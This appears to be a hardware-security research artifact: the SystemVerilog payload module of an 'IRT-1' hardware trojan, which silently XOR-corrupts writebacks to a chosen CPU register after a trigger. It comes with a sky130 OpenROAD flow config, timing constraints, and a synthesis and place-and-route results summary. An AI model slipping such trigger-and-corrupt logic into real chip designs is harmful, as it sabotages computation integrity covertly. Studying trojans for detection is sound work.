==> src/rtl/trj_payload_xor.sv <==
// Payload stage of the IRT-1 trojan. After a rising edge on the registered
// trigger it arms, XOR-corrupts up to BURST_LEN writebacks aimed at TARGET_REG,
// then sits out a cooldown before it can be armed again. All other writebacks
// pass through with zero added latency.
module trj_payload_xor #(
    parameter int                 DATA_W      = 64,
    parameter logic [4:0]         TARGET_REG  = 5'd10,
    parameter logic [DATA_W-1:0]  XOR_MASK    = DATA_W'(1),
    parameter int                 BURST_LEN   = 4,
    parameter int                 ARM_TIMEOUT = 1024,
    parameter int                 COOLDOWN    = 16
) (
    input  logic              clk,
    input  logic              rst,
    input  logic              trj_trigger,
    input  logic              wb_valid_i,
    input  logic [4:0]        wb_waddr_i,
    input  logic [DATA_W-1:0] wb_data_i,
    output logic [DATA_W-1:0] wb_data_o,
    output logic              payload_active_o,
    output logic [7:0]        fire_count_o
);

    typedef enum logic [1:0] {
        S_IDLE     = 2'd0,
        S_ARMED    = 2'd1,
        S_COOLDOWN = 2'd2
    } state_t;

    localparam logic [7:0]  BURST_LAST   = 8'(BURST_LEN - 1);
    localparam logic [15:0] TIMEOUT_LAST = 16'(ARM_TIMEOUT - 1);
    localparam logic [15:0] COOL_LAST    = 16'(COOLDOWN - 1);

    state_t      state;
    logic        trig_q;
    logic [7:0]  burst_cnt;
    logic [15:0] timer;

    logic trig_rise;
    logic hit;
    logic corrupt;

    // x0 is hard-wired zero architecturally, so it is excluded even if selected.
    assign trig_rise = trj_trigger & ~trig_q;
    assign hit       = wb_valid_i && (wb_waddr_i == TARGET_REG) && (wb_waddr_i != 5'd0);
    assign corrupt   = (state == S_ARMED) && hit;

    // Writeback data path: same-cycle pass-through or XOR corruption.
    assign wb_data_o = corrupt ? (wb_data_i ^ XOR_MASK) : wb_data_i;

    // Control FSM, edge detector and counters; payload_active_o follows the next state.
    always_ff @(posedge clk) begin
        if (rst) begin
            // NOTE: all sequential state uses non-blocking assignments so every
            // register samples pre-edge values regardless of statement order.
            state            <= S_IDLE;
            trig_q           <= 1'b1;   // a trigger held through reset is not an edge
            burst_cnt        <= 8'd0;
            timer            <= 16'd0;
            fire_count_o     <= 8'd0;
            payload_active_o <= 1'b0;
        end else begin
            // Edges in ARMED/COOLDOWN are consumed here and never replayed in IDLE.
            trig_q <= trj_trigger;
            case (state)
                S_IDLE: begin
                    if (trig_rise) begin
                        state            <= S_ARMED;
                        burst_cnt        <= 8'd0;
                        timer            <= 16'd0;
                        payload_active_o <= 1'b1;
                    end
                end
                S_ARMED: begin
                    if (corrupt) begin
                        // A hit always wins over a coincident timeout.
                        burst_cnt <= burst_cnt + 8'd1;
                        if (fire_count_o != 8'hFF) begin
                            fire_count_o <= fire_count_o + 8'd1;
                        end
                        if (burst_cnt == BURST_LAST) begin
                            state <= S_COOLDOWN;
                            timer <= 16'd0;
                        end
                    end else if (burst_cnt == 8'd0) begin
                        // Timeout only guards the wait for the first hit.
                        if (timer == TIMEOUT_LAST) begin
                            state            <= S_IDLE;
                            payload_active_o <= 1'b0;
                        end else begin
                            timer <= timer + 16'd1;
                        end
                    end
                end
                S_COOLDOWN: begin
                    if (timer == COOL_LAST) begin
                        state            <= S_IDLE;
                        payload_active_o <= 1'b0;
                    end else begin
                        timer <= timer + 16'd1;
                    end
                end
                default: begin
                    state            <= S_IDLE;
                    payload_active_o <= 1'b0;
                end
            endcase
        end
    end

endmodule

==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = trj_payload_xor
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trj_payload_xor.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export ABC_CLOCK_PERIOD_IN_PS = 4800
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__clkbuf_2
export CORE_ASPECT_RATIO = 1.25
export CORE_MARGIN = 1.5
export CORE_UTILIZATION = 51
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_8
export DETAILED_ROUTE_END_ITERATION = 10
export HOLD_SLACK_MARGIN = 0.06
export PLACE_DENSITY = 0.86
export SETUP_SLACK_MARGIN = 0.5
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 50
==> constraint.sdc <==
create_clock -name clk -period 4.8 [get_ports clk]
set_input_delay 0.24 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.24 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
==> summary.txt <==
Outcome
  • Outcome: complete, no violations

Routing
  • 1st-pass router iterations: 4
  • DRT Wirelength: 5160 um
  • Detailed-route DRC error count: 0
  • Post-DR vias/cell: 5.15
  • Avg WL per Cell: 11.5 um
  • Initial DRC count: 136
  • Routed Antenna Nets: 0
  • Vias post-DR: 2314

Cells and area
  • Fin cells: 449
  • Net count reported at finish: 464
  • Layout area overhead: -9.24%
  • Share of cells above drive strength 1: 16.1%
  • Post-route cell area: 0.00256 mm^2
  • N_diodes: 0
  • Most frequent cells in the layout: nand2_1 (92), nor2_1 (59), inv_1 (51)
  • Commonest non-fill, non-tap cell in the layout: nand2_1

Job
  • Max-cap violations: 0

Yosys
  • Synth Net Count: 507
  • Yosys warnings: 0
  • Yosys reg bits: 36
  • Unique masters post-synth: 37
  • Post-Syn Instances: 427
  • Mapped Area: 0.00282 mm^2
  • Post-synthesis sequential area ratio: 25.6%
  • Post-Synthesis Mean Instance Area: 6.60 um^2

Timing
  • RSZ-0062 raised after global routing: false
  • Final setup fails: 0
  • Final Cycle Share: 42.2%
  • Worst Tran Pin Value: 0.748 ns
  • Final clock skew: 0.00592 ns
  • Peak Freq: 494 MHz
  • Final hold vios: 0
  • TNS Setup: 0 ns
  • Hold WS: 0.148 ns
  • Max-slew violations: 0
  • Slew HR: 50.1%
  • Min Tclk post-route: 2.02 ns

Critical path
  • R2r startpoint: state[1]
  • Reg2reg path depth: 9
  • Setup crit end kind: output port
  • Worst setup path start: state[1]
  • Max FO, Critical Path: 11
  • Required @ worst endpoint: 4.56 ns
  • Startpoint types: flop
  • Critical path data arrival time: 1.78 ns
  • WS Path Type: reg2out

Placed design
  • GPL Wtd Cong: 0.870
  • Buffers on Ports: 19
  • Placed cell area: 0.00246 mm^2
  • Post-DP HPWL: 3810 um
  • Placed cell count: 441

Clocking
  • Worst skew pair latency: 0.29 ns
  • TritonCTS Buffers: 5
  • Clock Pin Slew Worst Setup and Hold Paths: 0.08 ns
  • Clock Tree Root: clkbuf_8
  • Clk sinks: 36
  • TritonCTS clock tree: done
  • Post_cts resized: 0
  • H-Tree Depth: 2
  • CTS max path bufs: 2
  • Setup Fix Bufs, Post-CTS: 0
  • # hold bufs at CTS: 0

Global routing
  • Grt ovf: 0
  • Gr usage total: 18.4%
  • Initial antenna violation count: 0
  • Pin count of the biggest net entering global routing: 29
  • First-pass GRT wire length: 9270 um
  • Vias in the first global route: 2308

Floorplanning
  • Full die area: 0.00598 mm^2
  • Die X: 69.5 um
  • Starting Density: 52.5%
  • Placeable Area: 0.00537 mm^2
  • Row cnt: 30
  • Top Ports: 146
  • Die H: 86.1 um

Worst hold path
  • Hold Path Class: in2reg
  • Hold depth: 2
  • Hold Startpoint: trj_trigger

Power and ir drop
  • Peak VDD IR: 0.265 mV
  • Static Leak: 1.17 nW
  • Power Dens Cells: 439 mW/mm^2
power by group:
| group | internal (W) | total [W] | switching, W |
|---|---|---|---|
| clock network | 0.000117 | 0.000234 | 0.000117 |
| logic | 0.000165 | 0.000504 | 0.000339 |
| registers | 0.000340 | 0.000383 | 0.0000432 |
logic make-up after synthesis:
logic type                 Yosys count  share of synthesized area (%)
AOI/OAI and AO/OA                   46                           9.01
adders and majority gates            7                           3.11
DFF                                 36                           25.6
xor gates and xnor gates             4                           1.24
buffers and inverters              123                           26.1
and+or+nand+nor                    211                           35.0
registers in the layout, indices dropped and copies added, names as in the netlist:
signal / cells
payload_active_o: 1
state: 2
burst_cnt: 8
trig_q: 1
fire_count_o: 8
timer: 16
per-layer routing:
layer,wire length (um),GRT usage [%]
met5,0,0
met2,2610,34.6
met1,2170,18.6
met3,261,5.64
met4,123,8.20
synth_stat cells (all sizes together):
| cell type | n | area (um^2) |
|---|---|---|
| or2 | 2 | 12.5 |
| o211ai | 1 | 7.51 |
| and3 | 1 | 6.26 |
| a31oi | 1 | 6.26 |
| nand3 | 24 | 160 |
| clkbuf | 2 | 17.5 |
| a211oi | 2 | 15.0 |
| nand2 | 107 | 449 |
| dfxtp | 36 | 721 |
| buf | 67 | 514 |
| a21oi | 23 | 115 |
| a21o | 1 | 7.51 |
| nor3b | 1 | 7.51 |
| xor2 | 1 | 8.76 |
| o21ai | 16 | 87.6 |
| nor3 | 5 | 35.0 |
| nor2 | 65 | 278 |
| xnor2 | 3 | 26.3 |
| nand4 | 6 | 37.5 |
| ha | 7 | 87.6 |
| o21bai | 2 | 15.0 |
| inv | 54 | 203 |
area by class of cell:
| type | instances | area [um^2] |
|---|---|---|
| Clock buffer | 6 | 82.6 |
| Sequential cell | 36 | 721 |
| Clock inverter | 2 | 13.8 |
| Fill cell | 544 | 2810 |
| Multi-Input combinational cell | 268 | 1360 |
| Timing Repair Buffer | 19 | 95.1 |
| Inverter | 54 | 203 |
| Tap cell | 64 | 80.1 |
critical path, stage by stage (launching register included):
cell and delay (ns):
dfxtp_1 0.33, inv_1 0.08, ha_1 0.42, nand4_1 0.26
xnor2_1 0.21, clkbuf_2 0.19
per-stage QoR:
step	util (%)	worst slack [ns]	total power (W)
after floorplan	-	3.21	0.000916
final	47.6	2.78	0.00112
after global placement	45.9	2.99	0.000867
after detailed placement	45.9	2.89	0.000887
after global routing	47.6	2.69	0.00122
after CTS	47.6	2.78	0.00112
path summary, 6_finish.rpt:
| path | end | slack (ns) |
|---|---|---|
| setup reg to reg | timer[6] | 2.88 |
| hold reg to reg | burst_cnt[7] | 0.48 |
| setup / recovery | wb_data_o[0] | 2.78 |
| hold / removal | trig_q | 0.15 |
(Power assumes the default switching activity.)
